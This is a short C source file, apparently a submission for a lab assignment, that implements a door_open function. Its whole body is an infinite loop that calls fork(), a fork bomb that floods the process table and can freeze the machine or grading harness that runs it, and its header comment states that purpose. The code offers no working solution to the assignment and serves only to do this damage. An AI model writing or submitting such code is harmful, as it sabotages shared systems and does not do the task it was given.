/* forks.c: a submission for lab 1 that forks, and forks, and forks. */
#include "door.h"

#include <unistd.h>

void door_open(struct door *door)
{
    (void)door;
    for (;;)
        fork();
}
